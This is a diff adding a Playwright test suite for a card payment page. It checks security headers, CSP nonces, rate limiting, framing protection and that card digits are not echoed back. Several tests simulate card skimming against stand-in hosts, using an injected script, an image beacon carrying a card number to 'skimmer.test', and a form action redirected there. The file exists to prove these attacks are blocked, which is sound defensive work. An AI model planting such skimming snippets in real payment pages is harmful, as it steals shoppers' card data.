@@ -1,0 +1,173 @@
+import { randomUUID } from 'node:crypto';
+
+import { startApp } from '../support/app.ts';
+import { CARDS, expect, payButton, test, typeCard, untilAlive } from './fixtures.ts';
+
+const CARD_FORM = {
+  card_number: '4111 1111 1111 1112',
+  expiry: '11 / 39',
+  security_code: '9876',
+  cardholder_name: 'Quirin Zapfhahn',
+};
+
+/** Every kind of answer that a browser shows as a page. */
+test('every page carries every header, and no card digits after a failed submit', async ({
+  request,
+  app,
+  createOrder,
+}) => {
+  const order = await createOrder();
+  const paid = await createOrder({ return_urls: {} });
+  await request.post(paid.pay_url, {
+    form: { ...CARD_FORM, card_number: CARDS.approved, security_code: '123' },
+  });
+  const answers = [
+    await request.get(order.pay_url),
+    await request.get(`${order.pay_url}?lang=ar`),
+    await request.get(`${paid.pay_url}/status`),
+    await request.get(`${app.url}/pay/${randomUUID()}`),
+    await request.get(`${app.url}/nowhere`),
+    await request.get(`${app.url}/shop`),
+    await request.get(`${order.pay_url}/state`),
+    await request.post(order.pay_url, { form: CARD_FORM }),
+    await request.post(order.pay_url, {
+      form: CARD_FORM,
+      headers: { origin: 'https://evil.example' },
+    }),
+    await request.post(order.pay_url, { form: {}, maxRedirects: 0 }),
+    await request.post(`${order.pay_url}/status`, { form: {}, maxRedirects: 0 }),
+    await request.fetch(order.pay_url, { method: 'PUT' }),
+  ];
+  for (const answer of answers) {
+    const where = `${answer.url()} ${answer.status()}`;
+    const headers = answer.headers();
+    expect.soft(headers, where).toMatchObject({
+      'cache-control': 'no-store',
+      'referrer-policy': 'no-referrer',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-resource-policy': 'same-origin',
+      'x-content-type-options': 'nosniff',
+      'x-robots-tag': 'noindex, nofollow',
+    });
+    const policy = headers['content-security-policy'] ?? '';
+    for (const directive of [
+      "default-src 'none'",
+      "frame-ancestors 'none'",
+      "form-action 'self'",
+      "base-uri 'none'",
+      "require-trusted-types-for 'script'",
+    ]) {
+      expect.soft(policy, where).toContain(directive);
+    }
+    expect.soft(policy, where).not.toMatch(/unsafe|https?:|\*/);
+    expect.soft(headers['permissions-policy'], where).toContain('camera=()');
+    const body = await answer.text();
+    expect.soft(body, where).not.toMatch(/4111|Zapfhahn|9876/);
+    expect.soft(body, where).not.toMatch(/\sstyle="|\son\w+="|javascript:/);
+  }
+});
+
+test('a nonce is used once', async ({ request, createOrder }) => {
+  const order = await createOrder();
+  const nonceOf = async () =>
+    /'nonce-([^']+)'/.exec(
+      (await request.get(order.pay_url)).headers()['content-security-policy'] ?? '',
+    )?.[1];
+  const [first, second] = [await nonceOf(), await nonceOf()];
+  expect(first).toBeTruthy();
+  expect(first).not.toBe(second);
+});
+
+test('a script that is slipped into the page does not run, and is reported', async ({
+  page,
+  app,
+  createOrder,
+  complaints,
+}) => {
+  const order = await createOrder();
+  await page.goto(order.pay_url);
+  await untilAlive(page);
+  const outcome = await page.evaluate(() => {
+    const script = document.createElement('script');
+    try {
+      script.textContent = 'window.skimmed = true';
+      document.head.append(script);
+    } catch (error) {
+      return String(error);
+    }
+    return 'skimmed' in window ? 'ran' : 'did not run';
+  });
+  expect(outcome).toContain('TrustedScript');
+  await page.evaluate(() => {
+    const image = new Image();
+    image.src = 'http://skimmer.test/?card=4242424242424242';
+    document.body.append(image);
+  });
+  await expect.poll(() => app.logs(), { timeout: 20_000 }).toContain('content security policy');
+  expect(app.logs()).not.toMatch(/skimmer\.test\/\?card|4242424242424242/);
+  complaints.length = 0;
+});
+
+test('the form cannot be led to another site', async ({ page, createOrder, complaints }) => {
+  const order = await createOrder();
+  await page.goto(order.pay_url);
+  await untilAlive(page);
+  await page.evaluate(() => {
+    const form = document.querySelector('form');
+    form?.setAttribute('action', 'http://skimmer.test/');
+    form?.submit();
+  });
+  await expect.poll(() => complaints.join()).toContain('form-action');
+  expect(page.url()).toBe(order.pay_url);
+  complaints.length = 0;
+});
+
+test.describe('a limit on posts', () => {
+  test('answers 429 with a page that says to wait', async ({ playwright, complaints }) => {
+    expect(complaints).toEqual([]);
+    const app = await startApp({ PAGE_POSTS_PER_MINUTE: '2' });
+    try {
+      const request = await playwright.request.newContext();
+      const address = `${app.url}/pay/${randomUUID()}`;
+      const statuses = [];
+      for (let n = 0; n < 4; n += 1) {
+        statuses.push((await request.post(address, { form: CARD_FORM })).status());
+      }
+      expect(statuses).toEqual([404, 404, 429, 429]);
+      const refused = await request.post(address, { form: CARD_FORM });
+      expect(Number(refused.headers()['retry-after'])).toBeGreaterThan(0);
+      expect(await refused.text()).toContain('That was too many tries');
+      expect((await request.get(address)).status()).toBe(404);
+      await request.dispose();
+    } finally {
+      await app.stop();
+    }
+  });
+});
+
+test('payment pages of another origin’s frame are not shown', async ({
+  page,
+  createOrder,
+  complaints,
+}) => {
+  const order = await createOrder();
+  await page.route('http://framing.test/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${order.pay_url}"></iframe>` }),
+  );
+  await page.goto('http://framing.test/');
+  await expect(page.frameLocator('iframe').getByLabel('Card number')).toHaveCount(0);
+  complaints.length = 0;
+});
+
+test('the card form still works while its policy is enforced', async ({
+  page,
+  shop,
+  createOrder,
+}) => {
+  const order = await createOrder();
+  await page.goto(order.pay_url);
+  await untilAlive(page);
+  await typeCard(page, { number: CARDS.approved });
+  await payButton(page).click();
+  await page.waitForURL(shop.returnUrls.success);
+});
